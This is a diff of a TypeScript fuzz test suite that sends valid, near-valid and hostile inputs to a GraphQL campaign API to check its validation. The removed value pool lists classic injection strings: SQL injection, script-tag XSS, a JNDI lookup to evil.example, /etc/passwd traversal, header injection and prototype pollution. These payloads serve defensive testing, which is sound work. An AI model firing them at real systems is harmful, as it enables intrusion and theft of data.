@@ -1,22 +1,11 @@
 import fc from 'fast-check';
-import {
-  getNamedType,
-  getNullableType,
-  isEnumType,
-  isInputObjectType,
-  isListType,
-  isNonNullType,
-  isObjectType,
-  isScalarType,
-  type GraphQLArgument,
-  type GraphQLInputType,
-  type GraphQLObjectType,
-} from 'graphql';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createSchema } from '../../src/server/schema.js';
+import { documents } from './fuzz-documents.js';
 import { startStack, type Stack } from '../helpers/stack.js';
-import { newPartner, promoInput } from '../graphql/support.js';
-import { expectNothingInternal, rest, restCampaignIds, restInfo, restPins, seeded, settle, trackUnhandledRejections } from './support.js';
+import { newPartner } from '../graphql/support.js';
+import { DARK, NEAR_VALID, STRING_FIELDS, cyrillicText, flatPromo, hostileString, money, nest, validCreate, variants } from './fuzz-values.js';
+import { expectNothingInternal, rest, restCampaignIds, restInfo, restPins, settle, trackUnhandledRejections } from './support.js';
+import { cid, numberOf } from '../helpers/ids.js';
 
 /**
  * Property-based fuzzing with fast-check over real HTTP. Every mutation gets valid, near-valid and
@@ -27,7 +16,7 @@ import { expectNothingInternal, rest, restCampaignIds, restInfo, restPins, seede
  * Seeds are fixed so a failure replays; runs are bounded to keep the file at a few seconds.
  */
 const SEED = 20_240_607;
-const USER_ERROR_CODES = ['INCORRECT_DATA', 'REPEAT_CAMPAIGN_DATA', 'CAMPAIGN_NOT_FOUND', 'FAIL_PIN', 'FAIL_FINISHED', 'FAIL_MODERATOR', 'FAIL_MERCHANT'];
+const USER_ERROR_CODES = ['REQUIRED', 'TOO_LONG', 'FORMAT', 'OUT_OF_RANGE', 'NOT_ALLOWED', 'NOT_ALLOWED_NOW', 'NOT_FOUND', 'INCORRECT_DATA', 'REPEAT_CAMPAIGN_DATA', 'CAMPAIGN_NOT_FOUND', 'FAIL_PIN', 'FAIL_FINISHED', 'FAIL_MODERATOR', 'FAIL_MERCHANT'];
 /** Top-level codes a request may earn on a healthy backend: bad variables, bad documents, limits. */
 const REQUEST_ERROR_CODES = ['BAD_REQUEST', 'BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'QUERY_LIMIT_EXCEEDED', 'PERSISTED_QUERY_NOT_FOUND'];
 const ANSWER_BUDGET_MS = 3000;
@@ -44,148 +33,6 @@ afterAll(async () => {
   rejections.stop();
   await stack?.close();
 });
-
-// ---------------------------------------------------------------------------------------------
-// Value pools
-
-const PAYLOADS = [
-  "'; DROP TABLE campaigns; --",
-  '" OR "1"="1',
-  "1' UNION SELECT token FROM partners --",
-  '<script>alert(document.cookie)</script>',
-  '<img src=x onerror=alert(1)>',
-  'javascript:alert(1)',
-  '{{7*7}}',
-  '${jndi:ldap://evil.example/a}',
-  '../../../../etc/passwd',
-  '\u0000',
-  'a\u0000b\u0001c\u001fd\u007f',
-  '\r\nSet-Cookie: x=1',
-  '\u202Eгазин',
-  '😀🎉🔥',
-  '👨‍👩‍👧‍👦 семья',
-  'Скидка 💸 сегодня',
-  '\uD800',
-  '\uFFFF\uFFFE',
-  '%00%0d%0a',
-  '__proto__',
-  'constructor',
-  'null',
-  'NaN',
-  '-1',
-  '1e309',
-  '0x1F',
-  ' ',
-  '',
-];
-
-/** Any text: payloads, arbitrary code points (lone surrogates and control characters included), huge strings. */
-const hostileString = fc.oneof(
-  { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
-  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
-  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
-  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('Я', 'x', '😀', '\u0007'), fc.integer({ min: 300, max: 200_000 })).map(([c, n]) => c.repeat(n)) },
-);
-
-/** Values of the wrong GraphQL type for a String field: the request is refused as a whole (400). */
-const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant({ nested: 'object' }), fc.constant(['list']));
-
-const cyrillicText = (max: number) =>
-  fc
-    .tuple(fc.constantFrom('Скидка', 'Подарок', 'Бонус', 'Акция', 'Выгода'), fc.string({ unit: 'grapheme', maxLength: max - 10 }))
-    .map(([word, tail]) => `${word} ${tail}`.slice(0, max));
-
-const money = fc.oneof(fc.integer({ min: 0, max: 100_000 }).map(String), fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 99 })).map(([a, b]) => `${a}.${String(b).padStart(2, '0')}`));
-
-const DARK = ['#1A237E', '#000', '#1B5E20', '#4A148C', '#B71C1C', '#0D47A1', '#3E2723'];
-
-/** A valid createCampaign input of every campaign kind. */
-const validCreate = fc
-  .record({
-    kind: fc.constantFrom('PROMO', 'BANNER', 'CODE_ONLINE_ONE_OFF', 'CODE_OFFLINE_REUSABLE'),
-    merchantName: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0),
-    description: cyrillicText(90),
-    conditions: cyrillicText(512),
-    discount: fc.oneof(
-      fc.integer({ min: 1, max: 100 }).map((n) => ({ discountType: 'PERCENT', discountAmount: String(n) })),
-      money.filter((m) => m.length <= 30).map((m) => ({ discountType: 'FIX', discountAmount: m })),
-      cyrillicText(30).map((t) => ({ discountType: 'TEXT', discountAmount: t })),
-    ),
-    campaignFee: money,
-    backgroundColor: fc.constantFrom(...DARK),
-  })
-  .map(({ kind, discount, ...rest }) => {
-    const byKind: Record<string, Record<string, unknown>> = {
-      PROMO: {},
-      BANNER: { campaignType: 'BANNER', appearanceType: 'IMAGE_BANNER', backgroundImage: 'https://shop.example.ru/banner.png' },
-      CODE_ONLINE_ONE_OFF: { campaignType: 'CODE_ONLINE', pinType: 'ONE_OFF', pinDisplayType: 'TEXT' },
-      CODE_OFFLINE_REUSABLE: { campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'REUSABLE', pinDisplayType: 'TEXT', couponCode: 'КОД-2024' },
-    };
-    return { ...byKind[kind], ...discount, ...rest };
-  });
-
-/** Off by a little, on a valid PROMO input: each breaks exactly one rule a form would have to explain. */
-const NEAR_VALID: Record<string, unknown>[] = [
-  { description: 'Discount for everyone' },
-  { description: 'Я'.repeat(91) },
-  { description: '' },
-  { conditions: 'Я'.repeat(513) },
-  { backgroundColor: '#FFF' },
-  { backgroundColor: '#12345' },
-  { backgroundColor: 'navy' },
-  { fontColor: '#1A237F' },
-  { merchantDomain: 'https://shop.example.ru' },
-  { merchantDomain: 'www.shop.example.ru' },
-  { merchantDomain: 'shop.example.ru/' },
-  { merchantDomain: '-shop.ru' },
-  { discountType: 'PERCENT', discountAmount: '0' },
-  { discountType: 'PERCENT', discountAmount: '100.01' },
-  { discountType: 'FIX', discountAmount: '15.555' },
-  { discountType: 'FIX', discountAmount: '1e2' },
-  { discountType: 'TEXT', discountAmount: 'Gift' },
-  { campaignFee: '1.001' },
-  { campaignFee: '-1' },
-  { campaignFee: ' 5' },
-  { campaignFee: null, campaignFeeMin: '10', campaignFeeMax: '5' },
-  { campaignFeeMin: '1', campaignFeeMax: '5' },
-  { acceptUrl: 'ftp://shop.example.ru' },
-  { acceptUrl: 'javascript:alert(1)' },
-  { acceptUrl: null },
-  { merchantLogoSvg: `https://${'a'.repeat(300)}.ru/logo.svg` },
-  { categoryId: '0' },
-  { categoryId: '999' },
-  { categoryId: 'abc' },
-  { categoryId: '1.5' },
-  { partnerCampaignId: -7 },
-  { campaignEnd: '2020-01-01T00:00:00Z' },
-  { campaignStart: 'tomorrow' },
-  { campaignStart: '2030-02-01T00:00:00Z', campaignEnd: '2030-01-01T00:00:00Z' },
-  { offerDuration: 0 },
-  { offerDuration: 100_001 },
-  { supportedPlatforms: [] },
-  { discountCurrency: 'USD' },
-  { campaignType: 'CODE' },
-  { campaignType: 'UNKNOWN' },
-  { campaignType: 'CODE_ONLINE' },
-  { pinType: 'ONE_OFF', pinDisplayType: 'TEXT', couponCode: 'NOPE', campaignType: 'CODE_ONLINE' },
-  { feeCurrency: 'UNKNOWN' },
-  { cashbackConfirmTime: 3651 },
-];
-const STRING_FIELDS = ['merchantName', 'description', 'conditions', 'merchantDomain', 'backgroundColor', 'fontColor', 'discountAmount', 'campaignFee', 'acceptUrl', 'couponCode', 'merchantLogoPng'];
-
-type Variant = { label: 'valid' | 'near-valid' | 'hostile' | 'wrong type'; input: Record<string, unknown> };
-
-/** Valid, near-valid (one rule broken), hostile (1-3 fields replaced) and wrongly typed inputs. */
-function variants(valid: fc.Arbitrary<Record<string, unknown>>, near: fc.Arbitrary<Record<string, unknown>>, fields: string[]): fc.Arbitrary<Variant> {
-  return fc.oneof(
-    valid.map((input) => ({ label: 'valid' as const, input })),
-    fc.tuple(near, fc.constantFrom(...NEAR_VALID)).map(([input, patch]) => ({ label: 'near-valid' as const, input: { ...input, ...patch } })),
-    fc
-      .tuple(valid, fc.uniqueArray(fc.tuple(fc.constantFrom(...fields), hostileString), { minLength: 1, maxLength: 3, selector: ([k]) => k }))
-      .map(([input, replaced]) => ({ label: 'hostile' as const, input: { ...input, ...Object.fromEntries(replaced) } })),
-    fc.tuple(valid, fc.constantFrom(...fields), wrongType).map(([input, key, value]) => ({ label: 'wrong type' as const, input: { ...input, [key]: value } })),
-  );
-}
 
 // ---------------------------------------------------------------------------------------------
 // Answer checks
@@ -245,7 +92,7 @@ describe('fuzzing every mutation', () => {
     const seen = { valid: 0, 'near-valid': 0, hostile: 0, 'wrong type': 0, succeeded: 0 };
     await fc.assert(
       fc.asyncProperty(
-        variants(validCreate.map((v) => ({ ...promoInput(0), ...v })), fc.constant(promoInput(0)), STRING_FIELDS),
+        variants(validCreate.map((v) => ({ ...flatPromo(0), ...v })), fc.constant(flatPromo(0)), STRING_FIELDS),
         // Now and then a partnerCampaignId used before: a replacement, or REPEAT_CAMPAIGN_DATA.
         // Any integer the campaign API takes, up to 2^53 − 1 (SafeInt), not only 32-bit ones.
         fc.oneof({ weight: 1, arbitrary: fc.integer({ min: 1, max: 12 }) }, { weight: 2, arbitrary: fc.integer({ min: 13, max: 2 ** 31 - 1 }) }, { weight: 2, arbitrary: fc.maxSafeNat().filter((n) => n > 12) }),
@@ -253,7 +100,7 @@ describe('fuzzing every mutation', () => {
         async ({ label, input }, partnerCampaignId, pollute) => {
           const full = { ...input, partnerCampaignId: input.partnerCampaignId === 0 ? partnerCampaignId : (input.partnerCampaignId ?? partnerCampaignId) };
           seen[label]++;
-          const answer = await send(CREATE, { input: full }, token, pollute ? '"__proto__":{"polluted":"yes"},' : undefined);
+          const answer = await send(CREATE, { input: nest(full) }, token, pollute ? '"__proto__":{"polluted":"yes"},' : undefined);
           const payload = payloadOf(answer, 'createCampaign', token);
           if (pollute || label === 'wrong type') expect(payload, 'refused as a whole').toBeNull();
           if (payload === null) return;
@@ -290,8 +137,8 @@ describe('fuzzing every mutation', () => {
     // Two campaigns the updates work on, by id; ids it never had and malformed ones are refused.
     const model = new Map<string, Record<string, unknown>>();
     for (const partnerCampaignId of [501, 502]) {
-      const input = promoInput(partnerCampaignId);
-      const answer = await send(CREATE, { input }, token);
+      const input = flatPromo(partnerCampaignId);
+      const answer = await send(CREATE, { input: nest(input) }, token);
       expect(answer.body.data.createCampaign.userErrors).toEqual([]);
       model.set(answer.body.data.createCampaign.campaign.id, { ...input });
     }
@@ -311,7 +158,7 @@ describe('fuzzing every mutation', () => {
     await fc.assert(
       fc.asyncProperty(variants(validUpdate, fc.constant({}), FIELDS.slice(0, 8)), fc.constantFrom(...model.keys(), '987654', '9', '0', '-1', 'abc'), async ({ label, input }, id) => {
         const full: Record<string, unknown> = { ...input, id };
-        const answer = await send(UPDATE, { input: full }, token);
+        const answer = await send(UPDATE, { input: nest(full) }, token);
         const payload = payloadOf(answer, 'updateCampaign', token);
         if (label === 'wrong type') expect(payload).toBeNull();
         if (payload === null || payload.userErrors.length) return;
@@ -331,10 +178,10 @@ describe('fuzzing every mutation', () => {
     );
     expect(succeeded).toBeGreaterThan(5);
     const ids = await restCampaignIds(stack, token);
-    expect(ids.map(String).sort()).toEqual([...model.keys()].sort());
+    expect(ids.map(cid).sort()).toEqual([...model.keys()].sort());
     for (const id of ids) {
       const { result } = await rest(stack, 'campaigns/get', token, { ymCampaignId: id });
-      const expected = model.get(String(id))!;
+      const expected = model.get(cid(id))!;
       for (const field of FIELDS) expect(result[field], `${field} of ${id}`).toBe(expected[field]);
     }
   });
@@ -345,7 +192,8 @@ describe('fuzzing every mutation', () => {
     const own = new Set((await restCampaignIds(stack, token)).map(String));
     const id = fc.oneof(
       fc.constantFrom(...own),
-      fc.constantFrom('9', '10', '15'), // the aggregator's
+      fc.constantFrom(...[...own].map((n) => cid(Number(n)))),
+      fc.constantFrom('9', '10', '15', cid(9), cid(15)), // the aggregator's
       fc.constantFrom('01', '1.0', '+1', '1e0', ' 1', '0', '-1', '9007199254740993', '99999999999999999999', '١'),
       hostileString,
     );
@@ -358,9 +206,11 @@ describe('fuzzing every mutation', () => {
           expect(payload.userErrors.length).toBeGreaterThan(0);
           return;
         }
-        expect(own, `${mutation}(${JSON.stringify(campaignId)}) returned campaign ${payload.campaign.id}`).toContain(payload.campaign.id);
-        expect(campaignId).toBe(payload.campaign.id); // no lenient id parsing: "01" is not campaign 1
-        const { result } = await rest(stack, 'campaigns/get', token, { ymCampaignId: Number(payload.campaign.id) });
+        const number = String(numberOf(payload.campaign.id));
+        expect(own, `${mutation}(${JSON.stringify(campaignId)}) returned campaign ${number}`).toContain(number);
+        // No lenient id parsing: "01" is not campaign 1; its id and its number as digits are.
+        expect([payload.campaign.id, number]).toContain(campaignId);
+        const { result } = await rest(stack, 'campaigns/get', token, { ymCampaignId: numberOf(payload.campaign.id) });
         expect(payload.campaign.status).toBe(STATUS[result.campaignStatus]);
       }),
       { numRuns: 100, seed: SEED + 2 },
@@ -369,9 +219,9 @@ describe('fuzzing every mutation', () => {
 
   it('addPins: the backend has exactly the pins reported stored, once each, and the counts add up', async () => {
     const token = await newPartner(stack, 'store');
-    const create = await send(CREATE, { input: promoInput(601, { campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'ONE_OFF', pinDisplayType: 'TEXT' }) }, token);
+    const create = await send(CREATE, { input: nest({ ...flatPromo(601), campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'ONE_OFF', pinDisplayType: 'TEXT' }) }, token);
     const campaignId = create.body.data.createCampaign.campaign.id;
-    await stack.admin('moderate', { ymCampaignId: Number(campaignId), decision: 'approve' });
+    await stack.admin('moderate', { ymCampaignId: numberOf(campaignId), decision: 'approve' });
     const stored = new Set<string>();
     const used: string[] = [];
     const pin = fc.oneof(
@@ -396,7 +246,7 @@ describe('fuzzing every mutation', () => {
         } else {
           expect(payload).toMatchObject({ storedCount: 0, addedCount: 0, alreadyPresentCount: 0, duplicateCount: 0 });
         }
-        const backend = await restPins(stack, token, Number(campaignId));
+        const backend = await restPins(stack, token, numberOf(campaignId));
         expect(backend.length, 'no pin twice').toBe(new Set(backend.map((p) => p.toLowerCase())).size);
         expect(new Set(backend.map((p) => p.toLowerCase()))).toEqual(stored);
       }),
@@ -407,11 +257,11 @@ describe('fuzzing every mutation', () => {
 
   it('reportLead: the backend counts exactly the distinct transactions reported accepted', async () => {
     const token = await newPartner(stack, 'aggregator');
-    const create = await send(CREATE, { input: promoInput(701) }, token);
+    const create = await send(CREATE, { input: nest(flatPromo(701)) }, token);
     const campaignId = create.body.data.createCampaign.campaign.id;
     expect(create.body.data.createCampaign.campaign.status).toBe('STARTED'); // an aggregator's goes live at upload
     const clicks: string[] = [];
-    for (let i = 0; i < 40; i++) clicks.push((await stack.admin('accept', { ymCampaignId: Number(campaignId) })).clickId);
+    for (let i = 0; i < 40; i++) clicks.push((await stack.admin('accept', { ymCampaignId: numberOf(campaignId) })).clickId);
     const accepted = new Set<string>();
     const lead = fc.record(
       {
@@ -442,7 +292,7 @@ describe('fuzzing every mutation', () => {
       { numRuns: 80, seed: SEED + 4 },
     );
     expect(succeeded).toBeGreaterThan(5);
-    expect((await restInfo(stack, token, Number(campaignId))).campaignRedeems).toBe(accepted.size);
+    expect((await restInfo(stack, token, numberOf(campaignId))).campaignRedeems).toBe(accepted.size);
   });
 
   it('a huge value is never echoed whole in a user error (what the fuzzer first found)', async () => {
@@ -453,7 +303,7 @@ describe('fuzzing every mutation', () => {
       { discountType: 'FIX', discountAmount: `${huge}.999` },
       { campaignFee: null, campaignFeeMin: huge, campaignFeeMax: '1' },
     ]) {
-      const answer = await send(CREATE, { input: { ...promoInput(801), ...patch } }, token);
+      const answer = await send(CREATE, { input: nest({ ...flatPromo(801), ...patch }) }, token);
       const payload = payloadOf(answer, 'createCampaign', token);
       expect(payload.userErrors.length).toBeGreaterThan(0);
       expect(JSON.stringify(answer.body).length, JSON.stringify(patch).slice(0, 80)).toBeLessThan(2000);
@@ -465,88 +315,6 @@ describe('fuzzing every mutation', () => {
     expect(rejections.list).toEqual([]);
   });
 });
-
-// ---------------------------------------------------------------------------------------------
-// Documents
-
-const schema = createSchema();
-
-interface Picker {
-  /** A whole number from min to max, both included. */
-  int(min: number, max: number): number;
-  bool(): boolean;
-}
-
-function seededPicker(seed: number): Picker {
-  const next = seeded(seed);
-  return { int: (min, max) => min + Math.floor(next() * (max - min + 1)), bool: () => next() < 0.5 };
-}
-
-/** A literal for an argument: mostly sensible, sometimes out of bounds (which is BAD_USER_INPUT). */
-function argumentLiteral(type: GraphQLInputType, random: Picker): string | undefined {
-  const named = getNamedType(type);
-  if (isListType(getNullableType(type))) {
-    const n = random.int(0, 4);
-    return `[${Array.from({ length: n }, () => argumentLiteral(named as GraphQLInputType, random)).join(', ')}]`;
-  }
-  if (isEnumType(named)) {
-    const values = named.getValues();
-    return values[random.int(0, values.length - 1)]!.name;
-  }
-  if (isInputObjectType(named)) return undefined;
-  switch (named.name) {
-    case 'ID':
-      return JSON.stringify(['1', '2', '3', '9', '42', 'abc', '0'][random.int(0, 6)]);
-    case 'Int':
-      return String([0, 1, 3, 20, 100, 1000, 5000, -1][random.int(0, 7)]);
-    case 'String':
-      return JSON.stringify(['ru-RU', 'en-US', 'xx', '', 'bad locale'][random.int(0, 4)]);
-    case 'Boolean':
-      return random.bool() ? 'true' : 'false';
-    default:
-      return undefined;
-  }
-}
-
-/** A random selection on `type`, `depth` levels at most, with random aliases and directives. */
-function selection(type: GraphQLObjectType, depth: number, random: Picker): string {
-  const fields = Object.values(type.getFields());
-  const picked = new Set<number>();
-  const count = random.int(1, Math.min(4, fields.length));
-  while (picked.size < count) picked.add(random.int(0, fields.length - 1));
-  const parts: string[] = [];
-  for (const index of picked) {
-    const field = fields[index]!;
-    const named = getNamedType(field.type);
-    if (isObjectType(named) && depth <= 0) continue;
-    const args = field.args
-      .filter((a: GraphQLArgument) => isNonNullType(a.type) || random.int(0, 2) === 0)
-      .map((a) => [a.name, argumentLiteral(a.type, random)] as const)
-      .filter(([, v]) => v !== undefined)
-      .map(([k, v]) => `${k}: ${v}`);
-    if (field.args.some((a) => isNonNullType(a.type) && argumentLiteral(a.type, random) === undefined)) continue;
-    const alias = random.int(0, 3) === 0 ? `a${random.int(0, 999)}: ` : '';
-    const directive = random.int(0, 4) === 0 ? (random.bool() ? ' @include(if: true)' : ' @skip(if: false)') : '';
-    const sub = isObjectType(named) ? ` { ${selection(named, depth - 1, random)} }` : '';
-    parts.push(`${alias}${field.name}${args.length ? `(${args.join(', ')})` : ''}${directive}${sub}`);
-  }
-  return parts.length ? parts.join(' ') : '__typename';
-}
-
-/**
- * Documents built from the schema, 1 to 8 levels deep and up to 2 selections wide, some with an
- * alias or directive flood on top: within and beyond the limits.
- */
-const documents = fc
-  .record({ depth: fc.integer({ min: 1, max: 8 }), repeat: fc.integer({ min: 1, max: 2 }), seed: fc.nat(), flood: fc.constantFrom('none', 'none', 'none', 'aliases', 'directives'), n: fc.integer({ min: 2, max: 14 }) })
-  .map(({ depth, repeat, seed, flood, n }) => {
-    const random = seededPicker(seed);
-    const query = schema.getQueryType()!;
-    const parts = Array.from({ length: repeat }, () => selection(query, depth, random));
-    if (flood === 'aliases') parts.push(Array.from({ length: n }, (_, i) => `t${i}: __typename`).join(' '));
-    if (flood === 'directives') parts.push(`__typename${' @include(if: true)'.repeat(n)}`);
-    return `{ ${parts.join(' ')} }`;
-  });
 
 describe('fuzzing documents', () => {
   let token: string;
